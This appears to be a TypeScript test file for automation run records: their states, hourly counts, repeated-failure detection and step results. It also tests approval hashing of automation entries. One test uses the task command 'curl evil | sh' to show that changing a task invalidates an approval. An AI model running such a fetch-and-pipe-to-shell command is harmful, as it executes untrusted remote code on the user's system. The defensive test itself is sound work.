import assert from 'node:assert/strict';
import { approvedWords } from '../../../../src/core/automations/entryHash.ts';
import {
  failsAgainAndAgain,
  type KeptRun,
  resultOf,
  type RunRecord,
  runsBefore,
  stateOf,
} from '../../../../src/core/automations/runRecord.ts';

const now = 1_795_000_000_000;

function aRun(given: Partial<RunRecord> = {}, isHeard = true): KeptRun {
  const record: RunRecord = {
    automation: 'user deploy',
    name: 'deploy',
    key: 'settled msg_1',
    on: 'settled',
    sessionId: 'ses_1',
    reason: '“Parser” settled.',
    chain: [],
    window: 'w1',
    time: now,
    state: 'succeeded',
    steps: [],
    sent: [],
    ...given,
  };
  return { record, isHeard };
}

describe('the record of a run', () => {
  it('whose window is gone is said to have no known end, and one that only asked to have done nothing', () => {
    assert.equal(stateOf(aRun({ state: 'running' }, false)), 'unknown');
    assert.equal(stateOf(aRun({ state: 'running' })), 'running');
    assert.equal(stateOf(aRun({ state: 'asking' }, false)), 'expired');
    assert.equal(stateOf(aRun({ state: 'failed' }, false)), 'failed');
  });

  it('is counted by what was run within an hour, in one order for all windows', () => {
    const own = aRun({ key: 'own', state: 'running' }).record;
    const runs = [
      aRun({ key: 'a', time: now - 10 }),
      aRun({ key: 'b', time: now - 20, state: 'limited' }),
      aRun({ key: 'c', time: now - 3_700_000 }),
      aRun({ key: 'd', time: now - 5, automation: 'user other' }),
      aRun({ key: 'e', time: now - 5, isByHand: true }),
      // Claimed in the same moment by another window: one of the two stands first.
      aRun({ key: 'zzz', time: now, state: 'running' }),
      aRun({ key: 'aaa', time: now, state: 'running' }),
      // A clock that was a year ahead.
      aRun({ key: 'f', time: now + 365 * 24 * 3_600_000 }),
    ];
    assert.equal(runsBefore(own, runs, now), 2);
  });

  it('tells when the last three failed, since it was switched on', () => {
    const failed = [1, 2, 3].map((at) => aRun({ key: `k${at}`, time: now + at, state: 'failed' }));
    assert.ok(failsAgainAndAgain(failed, 'user deploy', 0));
    assert.ok(!failsAgainAndAgain(failed, 'user deploy', now + 2));
    assert.ok(!failsAgainAndAgain(failed.slice(1), 'user deploy', 0));
    assert.ok(!failsAgainAndAgain([...failed, aRun({ key: 'k4', time: now + 4 })], 'user deploy', 0));
    const held = aRun({ key: 'k5', time: now + 5, state: 'stillRunning' });
    assert.ok(failsAgainAndAgain([...failed, held], 'user deploy', 0));
  });

  it('ends as its steps did', () => {
    const steps = (...states: ('done' | 'failed' | 'skipped' | 'sent' | 'stillRunning')[]) =>
      states.map((state) => ({ kind: 'task' as const, what: '', state }));
    assert.equal(resultOf(steps('done', 'sent')), 'succeeded');
    assert.equal(resultOf(steps('done', 'failed', 'skipped')), 'failed');
    assert.equal(resultOf(steps('stillRunning', 'skipped')), 'stillRunning');
    assert.equal(resultOf(steps('done', 'skipped')), 'stopped');
  });
});

describe('what a person approves of an entry', () => {
  const entry = { id: 'folder /work deploy', value: { on: 'settled', do: [{ task: 'deploy' }] } };
  const none = new Map<string, string>();

  it('is the same in another order of its keys, and another with any other word in it or in a task', () => {
    const words = approvedWords(entry, none);
    assert.equal(
      approvedWords({ ...entry, value: { do: [{ task: 'deploy' }], on: 'settled' } }, none),
      words,
    );
    assert.notEqual(
      approvedWords({ ...entry, value: { on: 'failed', do: [{ task: 'deploy' }] } }, none),
      words,
    );
    assert.notEqual(
      approvedWords({ ...entry, value: { on: 'settled', do: [{ task: 'deploy ' }] } }, none),
      words,
    );
    assert.notEqual(approvedWords({ ...entry, id: 'folder /other deploy' }, none), words);
    // A list of pairs is no object: a command is handed the one or the other.
    const handed = (given: unknown) => ({ do: [{ command: { id: 'x.run', arguments: [given] } }] });
    assert.notEqual(
      approvedWords({ ...entry, value: handed({ force: true }) }, none),
      approvedWords({ ...entry, value: handed([['force', true]]) }, none),
    );
    const tasks = new Map([['deploy', 'make deploy']]);
    assert.notEqual(approvedWords(entry, tasks), words);
    assert.notEqual(
      approvedWords(entry, new Map([['deploy', 'curl evil | sh']])),
      approvedWords(entry, tasks),
    );
  });
});
